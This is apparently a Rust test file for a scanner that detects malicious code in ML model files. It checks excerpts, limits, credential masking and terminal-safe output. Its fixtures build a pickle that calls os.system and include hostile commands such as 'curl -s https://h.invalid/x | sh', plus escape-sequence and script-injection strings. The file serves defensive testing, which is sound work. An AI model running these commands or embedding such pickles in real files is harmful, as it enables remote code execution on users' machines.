//! What stands around a finding: the right place, little of it, nothing secret.

use weighin::input::Input;
use weighin::report::{self, Excerpt, FileReport, Finding, Report, SarifOptions, Style, View};
use weighin::{Depth, Limits, Scanner};

use crate::check::{corpus, files_of, rules, samples, scan};

const TOKEN: &str = "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";

fn of_rule<'f>(file: &'f FileReport, rule: &str) -> &'f Finding {
    file.findings.iter().find(|finding| finding.rule == rule).unwrap_or_else(|| panic!("{rule} is not in {file:?}"))
}

fn excerpt(finding: &Finding) -> &Excerpt {
    finding.excerpt.as_ref().unwrap_or_else(|| panic!("nothing is shown of {finding:?}"))
}

/// The numbers of the marked lines, and what is marked in them.
fn marked(excerpt: &Excerpt) -> Vec<(u64, String)> {
    let lines = excerpt.lines.iter();
    lines
        .filter_map(|line| {
            let mark = line.marked?;
            Some((line.at, line.text.chars().skip(mark.from).take(mark.to - mark.from).collect()))
        })
        .collect()
}

fn pickle(command: &str) -> Vec<u8> {
    let length = u32::try_from(command.len()).expect("short").to_le_bytes();
    [b"\x80\x02cos\nsystem\nX", &length[..], command.as_bytes(), b"\x85R."].concat()
}

fn sample(path: &str) -> Vec<u8> {
    std::fs::read(corpus().join(path)).expect("a sample")
}

#[test]
fn a_pickle_is_shown_as_python() {
    let file = scan("model.pkl", &pickle("echo weighin"));
    let shown = excerpt(of_rule(&file, "PKL002"));
    assert_eq!(shown.view, View::Program);
    let lines: Vec<&str> = shown.lines.iter().map(|line| line.text.as_str()).collect();
    assert_eq!(lines[0], "from os import system");
    assert!(lines[1].ends_with("system('echo weighin')"), "{lines:?}");
    assert_eq!(marked(shown).len(), 1);
    assert_eq!(marked(shown)[0].1, lines[1]);
}

#[test]
fn a_call_deep_in_a_program_is_shown_with_what_is_around_it() {
    let mut bytes = b"\x80\x02(".to_vec();
    for number in 0..200 {
        bytes.extend(format!("cmine{number}\nThing\n)R").bytes());
        if number == 150 {
            bytes.extend(b"cos\nsystem\nX\x04\0\0\0true\x85R");
        }
    }
    bytes.extend(b"l.");
    let file = scan("model.pkl", &bytes);
    let shown = excerpt(of_rule(&file, "PKL002"));
    let own = marked(shown);
    assert!(own.len() == 1 && own[0].1.contains("system('true')"), "{shown:?}");
    assert!(shown.lines.len() <= 9 && shown.lines.iter().any(|line| line.text.contains("mine151")), "{shown:?}");
}

#[test]
fn a_text_is_shown_by_its_lines() {
    let text = "# one\nimport os\n\n\ndef load():\n    pass\n\nos.system('curl -s https://h.invalid/x | sh')\n\nprint('end')\n# more\n# and more\n";
    let file = scan("modeling_x.py", text.as_bytes());
    let shown = file.findings.iter().map(excerpt).find(|shown| shown.view == View::Source).expect("lines");
    assert_eq!(marked(shown), [(8, "os.system('curl -s https://h.invalid/x | sh')".to_owned())]);
    let numbers: Vec<u64> = shown.lines.iter().map(|line| line.at).collect();
    assert_eq!(numbers, [6, 7, 8, 9, 10]);

    let report = Report::new(rules(), vec![file]);
    let place = |path: &str| path.to_owned();
    let log = report::sarif(&report, rules(), &SarifOptions { place: &place, category: None }).expect("JSON");
    let log: serde_json::Value = serde_json::from_str(&log).expect("it parses");
    let physical = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!((&physical["region"]["startLine"], &physical["region"]["endLine"]), (&8.into(), &8.into()));
    assert_eq!(physical["region"]["snippet"]["text"], "os.system('curl -s https://h.invalid/x | sh')");
    let around = &physical["contextRegion"];
    assert_eq!((&around["startLine"], &around["endLine"]), (&6.into(), &10.into()));

    let verbose = report::text(&report, Style { verbose: true, ..Style::default() });
    assert!(verbose.contains(">  8  os.system("), "{verbose}");
    assert!(!report::text(&report, Style::default()).contains("os.system('curl -s https://h.invalid/x | sh')\n"));
}

#[test]
fn a_line_without_end_is_shown_where_it_matters() {
    let text = format!("import os\nx = '{}'; os.system('id | sh'); y = '{}'\n", "é".repeat(3000), "ü".repeat(9000));
    let file = scan("modeling_x.py", text.as_bytes());
    let shown = file.findings.iter().map(excerpt).find(|shown| shown.view == View::Source).expect("lines");
    assert_eq!(marked(shown), [(2, "os.system('id | sh')".to_owned())]);
    assert!(shown.lines.iter().all(|line| line.text.chars().count() <= 162), "{shown:?}");
    let own = shown.lines.iter().find(|line| line.marked.is_some()).expect("a mark");
    assert!(own.text.starts_with("…é") && own.text.ends_with("ü…"), "{own:?}");
}

/// Whether rows are those of a file, with a mark that begins at `place`; how
/// many there are.
fn are_of(bytes: &[u8], excerpt: &Excerpt, place: u64) -> usize {
    for line in &excerpt.lines {
        let at = usize::try_from(line.at).expect("small");
        let own: Vec<String> = bytes[at..].iter().take(16).map(|byte| format!("{byte:02x}")).collect();
        assert!(line.text.contains('*') || own.join(" ").starts_with(&line.text), "{line:?}");
    }
    let first = excerpt.lines.iter().find_map(|line| Some(line.at + u64::try_from(line.marked?.from / 3).ok()?));
    assert_eq!(first, Some(place), "{excerpt:?}");
    excerpt.lines.len()
}

/// Every sample of the corpus with what stands around its findings, which is
/// little; without it, findings are what they are without excerpts.
#[test]
fn excerpts_are_bounded_and_change_nothing_else() {
    let mut limits = Limits::default();
    limits.excerpts = 0;
    let (with, without) = (Scanner::new(rules()), Scanner::new(rules()).with_limits(limits));
    let (mut shown, mut bare, mut rows) = (0, 0, 0);
    for file in samples().iter().flat_map(files_of) {
        let bytes = std::fs::read(&file).expect("a sample");
        let name = file.to_string_lossy();
        let mut report = with.scan_bytes(&name, &bytes);
        for finding in &mut report.findings {
            let Some(excerpt) = finding.excerpt.take() else {
                bare += 1;
                continue;
            };
            shown += 1;
            if excerpt.view == View::Bytes && finding.location.members.is_empty() {
                rows += are_of(&bytes, &excerpt, finding.location.offset);
            }
            assert!((1..=9).contains(&excerpt.lines.len()), "{name}: {excerpt:?}");
            assert!(excerpt.lines.iter().any(|line| line.marked.is_some()), "{name}: {finding:?} {excerpt:?}");
            for line in &excerpt.lines {
                let length = line.text.chars().count();
                assert!(length <= 164, "{name}: {line:?}");
                assert!(line.marked.is_none_or(|mark| mark.from <= mark.to && mark.to <= length), "{name}: {line:?}");
            }
        }
        let plain = without.scan_bytes(&name, &bytes);
        assert_eq!(report.findings, plain.findings, "{name}");
        assert_eq!((report.gaps, report.verdict), (plain.gaps, plain.verdict), "{name}");
    }
    assert!(rows > 100, "{rows} rows of bytes");
    assert!(shown > 500 && bare * 20 < shown, "{shown} findings are shown, {bare} are not");
}

#[test]
fn the_worst_findings_are_shown_first() {
    let mut limits = Limits::default();
    limits.excerpts = 1;
    let mild = b"\x80\x02cmine\nThing\n)R.".repeat(3);
    let bytes = [&mild[..], &pickle("true")].concat();
    let file = Scanner::new(rules()).with_limits(limits).scan_bytes("model.pkl", &bytes);
    let shown: Vec<&str> =
        file.findings.iter().filter(|finding| finding.excerpt.is_some()).map(|finding| finding.rule.as_str()).collect();
    assert!(file.findings.len() > 1);
    assert_eq!(shown, ["PKL002"]);
}

#[test]
fn what_is_too_long_to_be_read_twice_is_shown_as_bytes() {
    let mut limits = Limits::default();
    limits.reread_bytes = 16;
    let file = Scanner::new(rules()).with_limits(limits.clone()).scan_bytes("model.pkl", &pickle("true"));
    assert_eq!(excerpt(of_rule(&file, "PKL002")).view, View::Bytes);

    // What is to be read at its headers only is not read again elsewhere.
    let on_disk = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(on_disk.path(), pickle("true")).expect("written");
    let len = on_disk.as_file().metadata().expect("its length").len();
    let opened = std::fs::File::open(on_disk.path()).expect("opened");
    let input = Input::positioned(std::sync::Arc::new(opened), len);
    let mut limits = Limits::default();
    limits.memory_bytes = 16;
    let scanner = Scanner::new(rules()).with_limits(limits).with_depth(Depth::Header);
    let file = scanner.scan_input("model.pkl", input);
    assert_eq!(of_rule(&file, "PKL002").excerpt, None);
}

#[test]
fn limits_say_how_much_is_shown() {
    let text = "import os\nos.system('curl -s https://h.invalid/x | sh')\nprint()\n";
    let shown = |set: &[(&str, u64)], name: &str, bytes: &[u8]| {
        let mut limits = Limits::default();
        set.iter().for_each(|(limit, value)| limits.set(limit, *value).expect("a limit"));
        let file = Scanner::new(rules()).with_limits(limits).scan_bytes(name, bytes);
        file.findings[0].excerpt.clone()
    };
    for (name, bytes) in
        [("modeling_x.py", text.as_bytes()), ("model.pkl", &pickle("curl -s https://h.invalid/x | sh"))]
    {
        let one = shown(&[("excerpt-lines", 1), ("excerpt-width", 20)], name, bytes).expect("a line");
        assert_eq!(one.lines.len(), 1, "{one:?}");
        assert!(one.lines[0].marked.is_some() && one.lines[0].text.chars().count() <= 22, "{one:?}");
        assert!(shown(&[], name, bytes).expect("lines").lines.len() > 1);
        assert_eq!(shown(&[("excerpts", 0)], name, bytes), None);
    }
    let bytes = sample("safetensors/overlap.safetensors");
    let rows = |most| shown(&[("excerpt-bytes", most)], "overlap.safetensors", &bytes).map(|shown| shown.lines.len());
    assert_eq!((rows(0), rows(16), rows(32), rows(48)), (None, Some(1), Some(2), Some(3)));
    let numbered = shown(&[("reread-bytes", 5)], "modeling_x.py", text.as_bytes()).expect("bytes");
    assert_eq!(numbered.view, View::Bytes);
}

#[test]
fn credentials_are_hidden() {
    let key = "Qk1LTzRvUHFrRXhhbVBsZVRlc3RLZXk5".repeat(40);
    let lines: Vec<&str> = key.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).expect("ASCII")).collect();
    let armoured = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----", lines.join("\n"));
    let command = format!("curl -H 'Bearer {TOKEN}' https://h.invalid");
    let utf16: Vec<u8> = "\u{feff}"
        .encode_utf16()
        .chain(format!("token = {TOKEN}\n").encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut cut = pickle(&format!("{}{TOKEN}", "a ".repeat(190)));
    cut.truncate(cut.len() - 1);
    let cases: [(&str, Vec<u8>); 6] = [
        ("notes.txt", format!("a\nb\ntoken: {TOKEN}\nc\n").into_bytes()),
        ("notes.txt", utf16),
        ("notes.md", format!("a\n{armoured}\nend of it\n").into_bytes()),
        ("model.pkl", pickle(&command)),
        ("model.pkl", pickle(&format!("echo '{armoured}'"))),
        ("model.pkl", cut),
    ];
    for (name, bytes) in cases {
        for most in [16 << 20, 16] {
            let mut limits = Limits::default();
            limits.reread_bytes = most;
            let file = Scanner::new(rules()).with_limits(limits).scan_bytes(name, &bytes);
            let excerpts: Vec<&Excerpt> = file.findings.iter().filter_map(|finding| finding.excerpt.as_ref()).collect();
            assert!(!excerpts.is_empty(), "{name}: {file:?}");
            for line in excerpts.iter().flat_map(|excerpt| &excerpt.lines) {
                let bytes: String =
                    line.text.split(' ').filter_map(|pair| u8::from_str_radix(pair, 16).ok()).map(char::from).collect();
                for text in [&line.text, &bytes] {
                    for secret in [&TOKEN[8..16], &TOKEN[24..], &lines[1][..12], &lines[3][20..32]] {
                        assert!(!text.contains(secret), "{name}: {line:?}");
                    }
                }
            }
        }
    }
    // What is said of a call shows its arguments as well.
    let file = scan("model.pkl", &pickle(&command));
    let finding = of_rule(&file, "PKL002");
    let said = finding.evidence.attributes.values().chain([&finding.message]);
    assert!(said.clone().all(|text| !text.contains(&TOKEN[8..16])), "{finding:?}");
    assert!(finding.message.contains("Bearer hf_****"), "{finding:?}");
    let file = scan("notes.txt", format!("token: {TOKEN}\n").as_bytes());
    let shown = excerpt(&file.findings[0]);
    assert_eq!(shown.lines[0].text, format!("token: hf_{}", "*".repeat(34)));
    assert!(shown.lines[0].marked.is_some());
}

#[test]
fn members_are_shown_from_their_own_bytes() {
    for path in
        ["torch/evil.pt", "zip/evil-stored.zip", "archive/evil.tar", "archive/evil.pkl.gz", "archive/evil.tar.gz"]
    {
        let Ok(bytes) = std::fs::read(corpus().join(path)) else { continue };
        let file = scan(path, &bytes);
        let inside: Vec<&Finding> =
            file.findings.iter().filter(|finding| !finding.location.members.is_empty()).collect();
        assert!(!inside.is_empty(), "{path}: {file:?}");
        for finding in inside {
            assert!(!marked(excerpt(finding)).is_empty(), "{path}: {finding:?}");
        }
    }
}

#[test]
fn no_excerpt_ends_its_fence() {
    let text = "import os\nos.system('''\n```\n````\n<script>alert(1)</script> @everyone\n`````''')\n";
    let report = Report::new(rules(), vec![scan("modeling_x.py", text.as_bytes())]);
    let markdown = report::markdown(&report);
    let fences: Vec<&str> = markdown.lines().filter(|line| line.starts_with("```")).collect();
    assert!(fences.len() >= 2 && fences.len().is_multiple_of(2), "{markdown}");
    for pair in fences.chunks(2) {
        assert_eq!((pair[0], pair[1]), ("``````text", "``````"), "{markdown}");
    }
    let outside = markdown.split("``````").step_by(2).collect::<String>();
    assert!(!outside.contains("<script>") && markdown.contains("<script>"), "{markdown}");
}

#[test]
fn hostile_samples_reach_no_terminal() {
    let bytes =
        [&sample("pickle/reduce-os-system-p4.pkl")[..], &pickle("\u{202e}\u{1b}[2J\u{200b}\r\n\u{7}é\u{9b}31m")]
            .concat();
    let text = "import os\n# \u{1b}[2J\u{202e}\tx\nos.system('id\u{7}\u{9b}31m | sh')\u{b}\r\n";
    let report = Report::new(rules(), vec![scan("a.pkl", &bytes), scan("modeling_b.py", text.as_bytes())]);
    let obeyed =
        |text: &str| text.chars().find(|c| c.is_control() && *c != '\n' || ['\u{202e}', '\u{200b}'].contains(c));
    for text in [
        report::text(&report, Style { verbose: true, ..Style::default() }),
        report::markdown(&report),
        report::html(&report, rules()),
    ] {
        assert_eq!(obeyed(&text), None, "{text}");
    }
}
